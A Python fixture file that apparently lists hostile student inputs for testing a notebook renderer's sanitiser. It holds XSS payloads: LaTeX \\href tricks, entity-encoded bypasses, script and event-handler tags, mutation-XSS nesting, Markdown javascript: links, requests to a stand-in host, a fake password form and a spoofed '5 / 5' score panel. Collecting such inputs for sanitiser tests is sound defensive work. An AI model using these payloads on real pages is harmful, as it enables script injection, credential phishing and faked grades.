"""Texts with which a student could try to act in the browser of whoever reads a notebook.

Each calls `owned()`, or asks for something at elsewhere.example, or looks like a part of the page.
"""

LINK = r"{javascript:owned()}{x}"
# Formulas that make links, styles or names, or cover the page.
FORMULAS = [
    rf"$\href{LINK}$",
    rf"$\text{{a $\href{LINK}$}}$",
    rf"\begin{{align}}\href{LINK}\end{{align}}",
    rf"$\begin{{aligned}} a \\ \href {LINK} \end{{aligned}}$",
    r"$\mmlToken{mi}[href=javascript:owned()]{x}$",
    r"$\mmlToken{mi}[style='background:url(http://elsewhere.example/m.png)']{x}$",
    r"$\style{background:url(http://elsewhere.example/s.png)}{x}$",
    r"$\class{full-credit}{x}\cssId{toc}{y}$",
    rf"$\def\a{{\href}}\a{LINK}$",
    rf"$\newcommand{{\b}}[1]{{#1}}\b{{\href{LINK}}}$",
    rf"$\let\c=\href \c{LINK}$",
    rf"$\csname href\endcsname{LINK}$",
    rf"$\require{{html}}\href{LINK}$",
    r"$\unicode[serif;background:url(http://elsewhere.example/u.png)]{65}$",
    r"$\bbox[100em,border:100em solid]{x}\rule{100em}{100em}\rlap{x}\kern100em x$",
    rf"$\ce{{\href{LINK}}}$",
    r"$\includegraphics{http://elsewhere.example/i.png}$",
    rf"$\data{{href=javascript:owned()}}{{x}}\verb|a|\href{LINK}$",
]
# The same command, where a browser decodes or joins what a filter of the source does not see.
ENCODED = [
    rf"$&#92;href{LINK}$", rf"$&#x5c;href{LINK}$", rf"$&#92href{LINK}$", rf"$&bsol;href{LINK}$",
    rf"$\h&#114;ef{LINK}$", rf"$\h<!-- -->ref{LINK}$", rf"$\h<wbr>ref{LINK}$",
    rf"$\h<x>ref{LINK}$", rf"$\h&ZeroWidthSpace;ref{LINK}$", rf"$&amp;#92;href{LINK}$",
    rf"$\h&shy;ref{LINK}$", rf"&#36;\href{LINK}&#36;", rf"\&#40;\href{LINK}\)",
    rf"$\href\n{LINK}$", rf"$$\href{LINK}$$",
]  # fmt: skip
# Tags that run something, load something, or look like parts of the page.
TAGS = [
    "<script>owned()</script>", "<img src=x onerror=owned()>", "<svg onload=owned()></svg>",
    "<svg><script>owned()</script></svg>", "<body onload=owned()>",
    "<input autofocus onfocus=owned()>",
    "<details open ontoggle=owned()>x</details>", "<a href=javascript:owned()>x</a>",
    "<a href='java&#10;script:owned()'>x</a>", "<a href='&#1;javascript:owned()'>x</a>",
    "<a href='files/javascript:owned()'>x</a>", "<a href='/files/javascript:owned()'>x</a>",
    "<a href='data:text/html,<script>owned()</script>'>x</a>", "<a href='vbscript:owned()'>x</a>",
    "<iframe src=javascript:owned()></iframe>",
    "<iframe srcdoc='<script>owned()</script>'></iframe>",
    "<iframe src=http://elsewhere.example/1></iframe>", "<img src=http://elsewhere.example/2>",
    "<img src=//elsewhere.example/3>", "<img src=x srcset=http://elsewhere.example/4>",
    "<picture><source srcset=http://elsewhere.example/5><img src=x></picture>",
    "<link rel=stylesheet href=http://elsewhere.example/6>",
    "<style>@import url(http://elsewhere.example/7); * { display: none }</style>",
    "<style>@font-face { font-family: x; src: url(http://elsewhere.example/8) }</style>",
    "<div style='background:url(http://elsewhere.example/9)'>x</div>",
    "<table><tr><td style='text-align:url(http://elsewhere.example/a)'>x</td></tr></table>",
    "<td style='text-align:left;position:fixed;top:0;left:0;width:100%;height:100%'>x</td>",
    "<table background=http://elsewhere.example/b><tr><td>x</td></tr></table>",
    "<video poster=http://elsewhere.example/c></video>",
    "<audio src=http://elsewhere.example/d autoplay></audio>",
    "<object data=http://elsewhere.example/e></object>", "<embed src=http://elsewhere.example/f>",
    "<form action=http://elsewhere.example/g><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.example/h'>",
    "<base href=http://elsewhere.example/>", "<svg><image href=http://elsewhere.example/j /></svg>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"owned()\"/>'>",
    "<math href=javascript:owned()><mi>x</mi></math>",
    "<div class='panel-heading score'>5 / 5</div>",
    "<script type='math/tex'>\\href{javascript:owned()}{x}</script>", "<div id=toc>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror="
    "owned()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=owned()>'>",
    "<textarea><img title='</textarea><img src=x onerror=owned()>'>",
]  # fmt: skip
MARKDOWN = [
    "![x](http://elsewhere.example/k.png)", "![x][r]\n\n[r]: http://elsewhere.example/l.png",
    "[x](javascript:owned())", "[x](java&#115;cript:owned())", "[x](<javascript:owned()>)",
    "[x][s]\n\n[s]: javascript:owned()", "<javascript:owned()>", "[x](files/javascript:owned())",
    "![x](attachment:a.png)", "![x](attachment:lost.png)",
    "```mermaid\nflowchart\nA[<img src=http://elsewhere.example/n>]\n```",
    "x\n: <script>owned()</script>", "- [x] <script>owned()</script>",
    "<div>\n\n```\n</div><script>owned()</script>\n```",
    "`<script>owned()</script>` $`\\href{javascript:owned()}{x}`$",
]  # fmt: skip
